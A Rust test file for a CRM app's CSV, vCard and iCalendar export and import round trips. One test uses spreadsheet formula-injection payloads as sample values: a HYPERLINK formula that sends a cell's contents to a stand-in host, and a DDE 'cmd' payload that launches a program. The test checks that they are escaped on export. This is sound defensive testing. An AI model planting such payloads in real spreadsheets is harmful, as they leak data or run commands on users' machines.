//! Exports read back by the importers: CSV, vCard 4.0 and iCalendar files written by
//! Campo come back as the same data.

use campo_core::day::Day;
use campo_core::interop::csv_import::parse_csv_with;
use campo_core::interop::{
    Address, CalendarItem, CalendarKind, CalendarStart, CsvOptions, ItemStatus, Separator,
    TextEncoding, Typed, VCard, apply_mapping, parse_csv, read_calendar, read_vcards,
    suggest_mapping, write_calendar, write_csv, write_vcards,
};
use proptest::prelude::*;

/// Every physical line of a folded file is at most 75 octets and ends with CRLF.
fn assert_folded(bytes: &[u8]) {
    let text = std::str::from_utf8(bytes).unwrap();
    assert!(text.ends_with("\r\n"));
    for line in text.split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
        assert!(!line.contains('\n'), "bare LF in {line:?}");
    }
}

#[test]
fn csv_export_then_import_gives_the_same_table() {
    let headers = ["Ragione sociale", "Città", "Note", "Fatturato €"];
    let rows = vec![
        vec!["Caffè \"Però\"", "Forlì", "riga 1\r\nriga 2", "12.500,50"],
        vec!["Bar; Sport", " Lodi ", "", "0"],
        vec!["Solo nome", "", "", ""],
    ];
    for options in [CsvOptions::EXCEL_ITALY, CsvOptions::STANDARD] {
        let bytes = write_csv(&headers, &rows, options);
        // Excel-Italy: `;` and a BOM; the separator is found again on import.
        let table = parse_csv(&bytes).unwrap();
        assert_eq!(table.separator, options.separator);
        let encoding = if options.bom {
            TextEncoding::Utf8Bom
        } else {
            TextEncoding::Utf8
        };
        assert_eq!(table.encoding, encoding);
        assert_eq!(table.headers, headers);
        let read: Vec<Vec<String>> = table.rows.iter().map(|r| r.fields.clone()).collect();
        assert_eq!(read, rows);
        // The quoted CRLF inside the first row makes the second start on line 4.
        assert_eq!(
            table.rows.iter().map(|r| r.line).collect::<Vec<_>>(),
            [2, 4, 5]
        );
    }
}

/// Accounts whose values a spreadsheet would run as formulas, and phones and
/// amounts that start like one, go out escaped and come back through the importer
/// (mapping included) as they were.
#[test]
fn formula_cells_are_escaped_and_round_trip_through_the_importer() {
    let headers = ["Name", "Phone", "Mobile", "Notes", "Tags"];
    let rows = vec![
        vec![
            "=HYPERLINK(\"http://x.example/?\"&A1,\"Apri\")",
            "+39 02 1234 5678",
            "+393331234567",
            "-sconto 10% sempre",
            "@vip",
        ],
        vec![
            "Bar Roma",
            "+39 (051) 123-456",
            "0521/123456",
            "'=già protetto",
            "+1",
        ],
        vec!["=cmd|' /C calc'!A0", "", "", "+SUM(A1:A9)", ""],
    ];
    for options in [CsvOptions::STANDARD, CsvOptions::EXCEL_ITALY] {
        let bytes = write_csv(&headers, &rows, options);
        let text = String::from_utf8(bytes.clone()).unwrap();
        // No line of the file starts a cell with a formula character, except the
        // phones in Campo's stored format, which are left readable.
        let sep = options.separator.as_char();
        for line in text.trim_start_matches('\u{feff}').split("\r\n") {
            for cell in line.split(sep) {
                let cell = cell.trim_start_matches('"');
                if cell.starts_with(['=', '@', '-', '\t']) {
                    panic!("unescaped cell {cell:?} in {line:?}");
                }
                if cell.starts_with('+') {
                    assert!(
                        ["+39 02 1234 5678", "+393331234567", "+1"].contains(&cell),
                        "{cell:?}"
                    );
                }
            }
        }
        assert!(text.contains("'=HYPERLINK"));
        assert!(text.contains("'=cmd|"));
        assert!(text.contains("'+39 (051) 123-456"));
        assert!(text.contains("''=già protetto"));

        let table = parse_csv(&bytes).unwrap();
        let read: Vec<Vec<String>> = table.rows.iter().map(|r| r.fields.clone()).collect();
        assert_eq!(read, rows);

        let mapping = suggest_mapping(&table.headers);
        let imported: Vec<_> = apply_mapping(&table, &mapping)
            .into_iter()
            .map(|r| r.expect("every row imports"))
            .collect();
        assert_eq!(imported[0].account.name, rows[0][0]);
        assert_eq!(imported[0].account.phone, "+39 02 1234 5678");
        assert_eq!(imported[0].account.mobile, "+393331234567");
        assert_eq!(imported[0].account.notes, "-sconto 10% sempre");
        assert_eq!(imported[0].account.tags, ["@vip"]);
        assert_eq!(imported[1].account.phone, "+39 (051) 123-456");
        assert_eq!(imported[1].account.notes, "'=già protetto");
        assert_eq!(imported[1].account.tags, ["+1"]);
        assert_eq!(imported[2].account.name, "=cmd|' /C calc'!A0");
        assert_eq!(imported[2].account.notes, "+SUM(A1:A9)");
    }
}

fn field() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-zàè€ \"';,\t\r\n]{0,12}",
        // Formula characters, phones and signed numbers, with the escape's own `'`.
        "['=+@-]{0,3}[0-9 a(;.,]{0,8}",
        "\\PC{0,10}",
        Just(String::new()),
    ]
}

proptest! {
    /// Any strings written as CSV read back unchanged with the same separator
    /// (rows of blank fields only are skipped by the importer, by design).
    #[test]
    fn csv_round_trips_arbitrary_strings(
        headers in prop::collection::vec(field(), 1..5),
        rows in prop::collection::vec(prop::collection::vec(field(), 1..5), 0..6),
        sep in prop::sample::select(Separator::ALL.to_vec()),
        bom in any::<bool>(),
    ) {
        let bytes = write_csv(&headers, &rows, CsvOptions { separator: sep, bom });
        let table = parse_csv_with(&bytes, sep).unwrap();
        prop_assert_eq!(&table.headers, &headers);
        let kept: Vec<&Vec<String>> = rows
            .iter()
            .filter(|r| r.iter().any(|f| !f.trim().is_empty()))
            .collect();
        let read: Vec<&Vec<String>> = table.rows.iter().map(|r| &r.fields).collect();
        prop_assert_eq!(read, kept);
        prop_assert!(table.rows.windows(2).all(|w| w[0].line < w[1].line));
    }
}

fn typed(kinds: &[&str], value: &str) -> Typed {
    Typed {
        kinds: kinds.iter().map(|k| k.to_string()).collect(),
        value: value.into(),
    }
}

#[test]
fn vcard_export_then_import_gives_the_same_people() {
    let people = vec![
        VCard {
            full_name: "Maria Chiara Dell'Acqua".into(),
            given: "Maria Chiara".into(),
            family: "Dell'Acqua".into(),
            org: "Acque Minerali, Fonti & C.".into(),
            org_units: vec!["Vendite; Nord".into(), "Lombardia".into()],
            title: "Responsabile commerciale".into(),
            role: "Decisore".into(),
            phones: vec![
                typed(&["cell", "pref"], "+39 333 765 4321"),
                typed(&["work"], "02 1234567"),
            ],
            emails: vec![typed(&["work"], "mc.dellacqua@acque.example")],
            addresses: vec![Address {
                kinds: vec!["work".into()],
                street: "Via dei Mille 1\nPalazzo B, scala C".into(),
                city: "Città Sant'Angelo".into(),
                region: "PE".into(),
                postcode: "65013".into(),
                country: "Italia".into(),
            }],
            url: "https://acque.example/contatti?a=1,b=2".into(),
            birthday: Some("1979-11-30".into()),
            note: format!(
                "Backslash \\ e punto e virgola ; e virgole, tutto qui.\n{}",
                "Lunga nota con accenti àèìòù e simboli €€€ "
                    .repeat(6)
                    .trim_end()
            ),
            categories: vec!["clienti".into(), "fiera, 2025".into()],
        },
        VCard {
            full_name: "Enoteca Centrale".into(),
            org: "Enoteca Centrale".into(),
            phones: vec![typed(&[], "0372 111222")],
            birthday: Some("--02-29".into()),
            ..VCard::default()
        },
    ];
    let bytes = write_vcards(&people);
    assert_folded(&bytes);
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.starts_with("BEGIN:VCARD\r\nVERSION:4.0\r\n"));
    assert!(text.contains("TEL;TYPE=cell;PREF=1:+39 333 765 4321\r\n"));
    assert!(text.contains("BDAY:19791130\r\n"));
    assert!(text.contains("BDAY:--0229\r\n"));
    assert!(text.contains("CATEGORIES:clienti,fiera\\, 2025\r\n"));

    let back: Vec<VCard> = read_vcards(&bytes)
        .unwrap()
        .into_iter()
        .map(Result::unwrap)
        .collect();
    assert_eq!(back, people);
}

#[test]
fn imported_vcards_survive_an_export() {
    for name in ["iphone.vcf", "monica.vcf", "android-21.vcf"] {
        let path = format!(
            "{}/tests/fixtures/import/{name}",
            env!("CARGO_MANIFEST_DIR")
        );
        let cards: Vec<VCard> = read_vcards(&std::fs::read(path).unwrap())
            .unwrap()
            .into_iter()
            .filter_map(Result::ok)
            .collect();
        assert!(!cards.is_empty());
        let again: Vec<VCard> = read_vcards(&write_vcards(&cards))
            .unwrap()
            .into_iter()
            .map(Result::unwrap)
            .collect();
        assert_eq!(again, cards, "{name}");
    }
}

#[test]
fn ical_export_then_parse_gives_the_same_items() {
    let day = Day::from_ymd(2026, 3, 15).unwrap();
    let at = |h: i64, m: i64| day.to_ms() + (h * 3600 + m * 60) * 1000;
    let items = vec![
        CalendarItem {
            uid: "task-1@campo".into(),
            kind: CalendarKind::Task,
            summary: "Richiamare Bar Roma".into(),
            description: "Listino nuovo; sconto 5%, chiedere di Gino.\nUrgente \\ oggi".into(),
            start: CalendarStart::AllDay(day),
            duration_minutes: None,
            location: "".into(),
            status: ItemStatus::Open,
        },
        CalendarItem {
            uid: "task-2@campo".into(),
            kind: CalendarKind::Task,
            summary: "Preparare offerta".into(),
            description: "".into(),
            start: CalendarStart::At(at(9, 0)),
            duration_minutes: Some(45),
            location: "".into(),
            status: ItemStatus::Done,
        },
        CalendarItem {
            uid: "visit-1@campo".into(),
            kind: CalendarKind::Visit,
            summary: "Visita Trattoria Dà Nonna Luì".into(),
            description: "Presentazione delle novità di primavera, con degustazione. ".repeat(3),
            start: CalendarStart::At(at(14, 30)),
            duration_minutes: Some(90),
            location: "Piazza Università 3, 00184 Roma; ingresso laterale".into(),
            status: ItemStatus::Open,
        },
        CalendarItem {
            uid: "visit-2@campo".into(),
            kind: CalendarKind::Visit,
            summary: "Fiera di Verona".into(),
            description: "".into(),
            start: CalendarStart::AllDay(day.plus(2)),
            duration_minutes: None,
            location: "Verona".into(),
            status: ItemStatus::Done,
        },
    ];
    let stamp = at(7, 5) + 42_000;
    let bytes = write_calendar(&items, stamp);
    assert_folded(&bytes);
    let text = String::from_utf8(bytes.clone()).unwrap();
    for expected in [
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Campo//Campo//EN\r\n",
        "BEGIN:VTODO\r\nUID:task-1@campo\r\nDTSTAMP:20260315T070542Z\r\n",
        "DESCRIPTION:Listino nuovo\\; sconto 5%\\, chiedere di Gino.\\nUrgente \\\\ oggi\r\n",
        "DUE;VALUE=DATE:20260315\r\nSTATUS:NEEDS-ACTION\r\n",
        "DTSTART:20260315T090000Z\r\nDUE:20260315T094500Z\r\nSTATUS:COMPLETED\r\n",
        "BEGIN:VEVENT\r\nUID:visit-1@campo\r\n",
        "DTSTART:20260315T143000Z\r\nDURATION:PT90M\r\n",
        "DTSTART;VALUE=DATE:20260317\r\nDTEND;VALUE=DATE:20260318\r\n",
        "END:VEVENT\r\nEND:VCALENDAR\r\n",
    ] {
        assert!(text.contains(expected), "missing {expected:?} in\n{text}");
    }
    assert_eq!(read_calendar(&bytes).unwrap(), items);
}
